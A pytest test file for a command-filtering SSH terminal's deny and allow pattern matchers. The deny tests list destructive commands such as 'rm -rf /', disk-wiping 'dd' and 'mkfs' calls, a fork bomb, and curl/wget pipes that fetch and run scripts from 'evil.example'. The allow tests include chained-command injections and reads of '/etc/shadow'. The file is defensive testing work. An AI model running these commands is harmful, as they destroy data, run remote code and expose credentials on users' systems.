"""Tests for deny/allow pattern sets."""

from __future__ import annotations

import pytest

from safessh_terminal.services.patterns import PatternMatcher, allow_matcher, deny_matcher


class TestDenyPatterns:
    @pytest.mark.parametrize(
        "command",
        [
            "rm -rf /",
            "rm -rf /etc",
            "sudo rm -rf /*",
            "chmod 777 /var/www",
            "chmod -R 777 /srv",
            "mkfs.ext4 /dev/sda1",
            "dd if=/dev/zero of=/dev/sda bs=1M",
            ":(){ :|:& };:",
            "wget http://evil.example/x.sh | sh",
            "curl -s https://evil.example/install | bash",
        ],
    )
    def test_blocked(self, command):
        assert deny_matcher.match(command) is not None

    def test_fork_bomb_reason(self):
        rule = deny_matcher.match(":(){ :|:& };:")
        assert rule is not None
        assert "Fork bomb" in rule.reason

    def test_case_insensitive(self):
        assert deny_matcher.match("MKFS /dev/sdb") is not None

    @pytest.mark.parametrize("command", ["ls -la", "rm notes.txt", "chmod 644 file", "curl https://example.com", "find / -name x"])
    def test_not_blocked(self, command):
        assert deny_matcher.match(command) is None


class TestAllowPatterns:
    @pytest.mark.parametrize(
        "command",
        [
            "ls",
            "ls -la",
            "ls -l -h",
            "pwd",
            "echo hello world",
            "cd /var/log",
            "cat README.md",
            "mkdir build",
            "mkdir -p out/dist",
            "cp a.txt b.txt",
            "cp -r src dst",
            "df -h",
            "du -sh",
            "ps aux",
            'grep "error" /var/log/syslog',
            'grep -i "error" app.log',
            "ping -c 4 example.com",
            "uname -a",
            "whoami",
            "date",
            "apt update",
            "apt list",
            "apt search nginx",
        ],
    )
    def test_allowed(self, command):
        assert allow_matcher.match(command) is not None

    @pytest.mark.parametrize(
        "command",
        [
            "find / -name x",
            "ls -la | sh",
            "echo hi > /etc/passwd",
            "echo hi; reboot",
            "echo hi && reboot",
            "echo $(id)",
            "cat /etc/passwd /etc/shadow",
            "grep error file",
            "ping example.com",
            "apt install nginx",
            "date; whoami",
            "ls ../",
        ],
    )
    def test_not_allowed(self, command):
        assert allow_matcher.match(command) is None

    def test_surrounding_whitespace_ignored(self):
        assert allow_matcher.match("  pwd  ") is not None


class TestPatternMatcher:
    def test_invalid_pattern_skipped(self):
        matcher = PatternMatcher([("(", "broken"), (r"foo", "foo")])
        assert len(matcher) == 1
        assert matcher.match("foo bar").reason == "foo"

    def test_first_rule_wins(self):
        matcher = PatternMatcher([(r"a", "first"), (r"ab", "second")])
        assert matcher.match("ab").reason == "first"
